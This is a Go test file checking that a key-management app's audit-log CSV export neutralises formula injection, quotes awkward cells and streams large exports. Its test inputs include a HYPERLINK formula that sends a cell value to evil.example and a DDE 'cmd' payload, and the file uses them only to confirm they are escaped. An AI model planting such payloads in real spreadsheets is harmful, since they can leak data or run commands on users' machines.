package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/keyward/keyward/internal/keys"
	"github.com/keyward/keyward/internal/model"
)

func TestCSVCell(t *testing.T) {
	tests := map[string]string{
		"":                         "",
		"plain":                    "plain",
		"=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")",
		"+1+1":                     "'+1+1",
		"-2+3":                     "'-2+3",
		"@SUM(A1:A9)":              "'@SUM(A1:A9)",
		"\tTab":                    "'\tTab",
		"\rCR":                     "'\rCR",
		"a=b":                      "a=b",
		"2026-03-02T09:00:00Z":     "2026-03-02T09:00:00Z",
		"'quoted":                  "'quoted",
		// Full-width forms, which spreadsheets read as formulas too.
		"＝1+1":     "'＝1+1",
		"＋1":       "'＋1",
		"－1":       "'－1",
		"＠SUM(A1)": "'＠SUM(A1)",
		"  =1+1":   "'  =1+1",
		"a＝b":      "a＝b",
		"ключ":     "ключ",
	}
	for in, want := range tests {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// readCSV parses an export, failing t if it is not valid CSV.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = len(auditCSVHeader)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, clip(body, 1000))
	}
	return rows
}

func TestAuditExport(t *testing.T) {
	fx := newKeysFixture(t)
	ctx := context.Background()
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1:A9)",
		"\tindented",
		"\rcarriage",
		`Billing, "main" account`,
		"two\nlines",
	}
	actor := model.Actor{Label: "=evil@example.com", IP: "203.0.113.9"}
	var made []model.APIKey
	for _, name := range hostile {
		raw, _ := keys.Generate("kw", "live")
		k := model.APIKey{PublicID: keys.NewPublicID("key"), TeamID: fx.team.ID, Name: name, Environment: "live",
			KeyHash: keys.Hash(raw), Hint: keys.Hint(raw), PermissionSet: model.PermReadAll}
		if err := fx.app.store.CreateKey(ctx, &k, actor); err != nil {
			t.Fatal(err)
		}
		made = append(made, k)
	}
	if _, err := fx.app.store.RevokeKey(ctx, fx.team.ID, made[6].PublicID, model.UserActor(fx.owner, "192.0.2.1")); err != nil {
		t.Fatal(err)
	}

	res := fx.cl.get(t, "/settings/audit-log/export")
	res.wantStatus(t, http.StatusOK)
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("Content-Type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="keyward-audit-log-2026-03-02.csv"` {
		t.Fatalf("Content-Disposition %q", cd)
	}
	if res.Header.Get("Cache-Control") != "no-store" || res.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("headers %v", res.Header)
	}
	rows := readCSV(t, res.Body)
	if !slices.Equal(rows[0], auditCSVHeader) {
		t.Fatalf("header %q", rows[0])
	}
	// team.created, 8 created, 1 revoked: newest first.
	if len(rows) != 1+10 {
		t.Fatalf("%d rows, want 11", len(rows))
	}
	revoked := rows[1]
	want := []string{"2026-03-02T09:00:00Z", "user", "owner@example.com", "api_key.revoked",
		`revoked API key Billing, "main" account`, made[6].PublicID, `Billing, "main" account`, "192.0.2.1"}
	if !slices.Equal(revoked[:8], want) || !strings.Contains(revoked[8], `"hint":`) {
		t.Fatalf("revoke row\n got %q\nwant %q", revoked, want)
	}
	// Every cell a spreadsheet would run as a formula starts with an apostrophe.
	for i, name := range hostile {
		row := rows[1+len(hostile)-i] // created newest first, after the revoke
		if row[3] != model.ActionKeyCreated || row[5] != made[i].PublicID {
			t.Fatalf("row for %q: %q", name, row)
		}
		wantName := name
		if strings.ContainsAny(name[:1], "=+-@\t\r") {
			wantName = "'" + name
		}
		if row[6] != wantName {
			t.Errorf("target_name of %q exported as %q, want %q", name, row[6], wantName)
		}
		if row[2] != "'=evil@example.com" || row[1] != "system" || row[7] != "203.0.113.9" {
			t.Errorf("actor cells %q", row[1:3])
		}
		if row[4] != "created API key "+name {
			t.Errorf("description %q", row[4])
		}
	}
	// Commas, quotes and line breaks are quoted, never split a row.
	if !strings.Contains(res.Body, `"Billing, ""main"" account"`) || !strings.Contains(res.Body, "\"two\nlines\"") {
		t.Fatalf("quoting:\n%s", res.Body)
	}

	// The filters of the page apply (the cursor does not).
	filtered := readCSV(t, fx.cl.get(t, "/settings/audit-log/export?action=api_key.revoked&before=1").Body)
	if len(filtered) != 2 || filtered[1][3] != model.ActionKeyRevoked {
		t.Fatalf("filtered export: %q", filtered)
	}
	none := readCSV(t, fx.cl.get(t, "/settings/audit-log/export?actor=nobody").Body)
	if len(none) != 1 {
		t.Fatalf("empty export: %q", none)
	}
	// The page's export link carries its filters.
	page := fx.cl.get(t, "/settings/audit-log?action=api_key.revoked&before=5")
	if href := attr(page.first(t, "a#audit-export"), "href"); href != "/settings/audit-log/export?action=api_key.revoked" {
		t.Fatalf("export link %q", href)
	}
}

func TestAuditExportStreams(t *testing.T) {
	fx := newKeysFixture(t)
	owner := model.UserActor(fx.owner, "192.0.2.1")
	// More events than the store reads at a time and the writer flushes at once.
	const n = 1100
	seedKeys(t, fx.app, fx.team.ID, "key", n, owner)
	res := fx.cl.get(t, "/settings/audit-log/export")
	res.wantStatus(t, http.StatusOK)
	// Written as it is read: no length known in advance, sent in chunks.
	if res.ContentLength != -1 || !slices.Contains(res.TransferEncoding, "chunked") {
		t.Fatalf("not streamed: Content-Length %d, Transfer-Encoding %v", res.ContentLength, res.TransferEncoding)
	}
	rows := readCSV(t, res.Body)
	if len(rows) != 1+n+1 {
		t.Fatalf("%d rows, want %d", len(rows), n+2)
	}
	seen := map[string]bool{}
	for _, r := range rows[1 : n+1] {
		if seen[r[5]] {
			t.Fatalf("key %s exported twice", r[5])
		}
		seen[r[5]] = true
	}
	if rows[1][6] != "key 1100" || rows[n][6] != "key 1" || rows[n+1][3] != model.ActionTeamCreated {
		t.Fatalf("order: first %q, last %q", rows[1], rows[n+1])
	}
}
